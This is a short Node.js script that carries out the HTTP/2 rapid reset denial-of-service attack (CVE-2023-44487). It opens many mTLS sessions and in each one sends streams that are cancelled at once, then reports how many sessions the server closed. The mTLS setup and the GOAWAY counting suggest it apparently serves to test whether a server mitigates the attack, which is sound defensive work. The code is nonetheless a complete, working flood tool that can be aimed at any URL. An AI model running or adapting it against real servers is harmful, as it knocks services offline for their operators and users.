// HTTP/2 rapid reset (CVE-2023-44487) with Node's http2: opens SESSIONS
// mTLS sessions at once, each sending RESETS requests cancelled right
// away, and prints how many sessions the server ended. Exits when all
// have closed, or at the deadline.
//
// node h2_rapid_reset.js URL CA CERT KEY SESSIONS RESETS DEADLINE_MS
'use strict';
const http2 = require('http2');
const fs = require('fs');

const [url, ca, cert, key, sessions, resets, deadline] = process.argv.slice(2);
const tls = {
  ca: fs.readFileSync(ca),
  cert: fs.readFileSync(cert),
  key: fs.readFileSync(key),
  servername: 'localhost',
};
let open = Number(sessions);
let goaways = 0;
const done = () => {
  console.log(JSON.stringify({ goaways, left: open }));
  process.exit(0);
};
for (let s = 0; s < Number(sessions); s++) {
  const session = http2.connect(url, tls);
  session.on('error', () => {});
  session.on('goaway', () => goaways++);
  session.on('close', () => {
    open--;
    if (open === 0) done();
  });
  session.on('connect', () => {
    for (let i = 0; i < Number(resets); i++) {
      const req = session.request({ ':path': '/reset' });
      req.on('error', () => {});
      req.close(http2.constants.NGHTTP2_CANCEL);
    }
  });
}
setTimeout(done, Number(deadline));
